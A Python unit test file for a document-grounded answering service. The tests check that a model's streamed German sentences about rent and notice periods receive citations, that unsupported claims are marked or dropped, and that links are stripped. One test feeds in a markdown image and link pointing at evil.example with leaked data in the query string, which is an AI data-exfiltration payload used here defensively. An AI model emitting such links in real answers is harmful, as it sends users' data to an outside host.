"""A model's sentences are proved one by one while they stream."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from itertools import pairwise
from typing import Literal

import pytest

from shared.answering import service
from shared.answering.model import Answer, Instruments, Question, Tuning, Unsupported
from shared.identity.model import Principal
from tests.unit.answering.library import Listener, Scripted, Shelf

RENT = "Die Miete beträgt 850 Euro im Monat."
NOTICE = "Die Kündigungsfrist beträgt drei Monate zum Monatsende."
MADE_UP = "Bananen wachsen in Ecuador an hohen Stauden."


@pytest.fixture(autouse=True)
def documents(shelf: Shelf) -> Shelf:
    return shelf


def told(
    tools: Instruments,
    principal: Principal,
    pieces: Sequence[str],
    *,
    unsupported: Literal["mark", "drop"] = "mark",
) -> tuple[Answer, Listener]:
    listener = Listener()
    with_model = replace(
        tools, open_language_model=Scripted(pieces).open, tuning=Tuning(unsupported=unsupported)
    )
    question = Question(text="Wie hoch ist die Miete der Wohnung, und welche Frist gilt?")
    return service.ask(with_model, principal, question, emit=listener.emit), listener


def test_a_claim_without_a_citation_gets_the_one_it_deserves(
    tools: Instruments, principal: Principal
) -> None:
    answer, _ = told(tools, principal, [f"{RENT} {NOTICE}"])
    assert answer.text == f"{RENT} [1] {NOTICE} [2]"
    assert [citation.quote for citation in answer.citations] == [RENT, NOTICE]
    assert answer.state == "answer"


def test_a_claim_without_support_is_marked_where_it_ends(
    tools: Instruments, principal: Principal
) -> None:
    answer, listener = told(tools, principal, [f"{RENT} {MADE_UP} {NOTICE}"])
    assert answer.text == f"{RENT} [1] {MADE_UP} [unbelegt] {NOTICE} [2]"
    (event,) = [event for event in listener.events if isinstance(event, Unsupported)]
    assert event.payload() == {"text": MADE_UP, "is_dropped": False}


def test_a_claim_without_support_is_dropped_where_that_is_wanted(
    tools: Instruments, principal: Principal
) -> None:
    answer, listener = told(tools, principal, [f"{RENT} {MADE_UP} {NOTICE}"], unsupported="drop")
    assert answer.text == f"{RENT} [1] {NOTICE} [2]"
    assert "Bananen" not in str(listener.events)
    (event,) = [event for event in listener.events if isinstance(event, Unsupported)]
    assert event.payload() == {"text": "", "is_dropped": True}


def test_an_answer_of_which_nothing_is_left_is_unknown(
    tools: Instruments, principal: Principal
) -> None:
    answer, _ = told(tools, principal, [MADE_UP], unsupported="drop")
    assert answer.state == "unknown"
    assert answer.text.startswith("Dazu finde ich nichts")


@pytest.mark.parametrize("unsupported", ["mark", "drop"])
def test_cuts_of_the_stream_change_nothing(
    tools: Instruments, principal: Principal, unsupported: Literal["mark", "drop"]
) -> None:
    text = f"Laut Vertrag gilt:\n- {RENT} [9]\n- {NOTICE}\n\n{MADE_UP} Das gilt z. B. immer."
    whole, _ = told(tools, principal, [text], unsupported=unsupported)
    for width in (1, 7):
        edges = [*range(0, len(text), width), len(text)]
        pieces = [text[a:b] for a, b in pairwise(edges)]
        assert told(tools, principal, pieces, unsupported=unsupported)[0].text == whole.text


def test_words_are_heard_before_their_sentence_ends(
    tools: Instruments, principal: Principal
) -> None:
    heard: list[str] = []
    listener = Listener()

    def pieces() -> Sequence[str]:
        class Watched(list[str]):
            def __iter__(self):  # type: ignore[no-untyped-def]
                for piece in ["Die Miete ", "beträgt ", "850 Euro ", "im Monat. "]:
                    yield piece
                    heard.append(listener.text)

        return Watched()

    with_model = replace(tools, open_language_model=Scripted(pieces()).open)
    question = Question(text="Wie hoch ist die Miete?")
    service.ask(with_model, principal, question, emit=listener.emit)
    assert heard[1].startswith("Die Miete")
    assert len(heard[2]) > len(heard[1])


@pytest.mark.parametrize(
    "sentence",
    [
        "Hier ist, was der Vertrag sagt:",
        "Möchten Sie mehr wissen?",
        "Die Dokumente sagen dazu nichts.",
        "## Miete",
        "I could not find this in the documents.",
    ],
)
def test_what_claims_nothing_is_not_marked(
    tools: Instruments, principal: Principal, sentence: str
) -> None:
    answer, listener = told(tools, principal, [f"{sentence}\n\n{RENT}"])
    assert "[unbelegt]" not in answer.text
    assert [event for event in listener.events if isinstance(event, Unsupported)] == []


def test_nothing_that_loads_or_links_leaves_with_an_answer(
    tools: Instruments, principal: Principal
) -> None:
    attack = "![x](https://evil.example/leak?d=850) <img src=x> [here](https://evil.example/a?b=c)"
    answer, listener = told(tools, principal, [f"{RENT} {attack} {NOTICE}"])
    for text in (answer.text, listener.text, str(listener.events)):
        assert "leak?d" not in text
        assert "](" not in text
        assert "<img" not in text
    assert "850 Euro" in answer.text
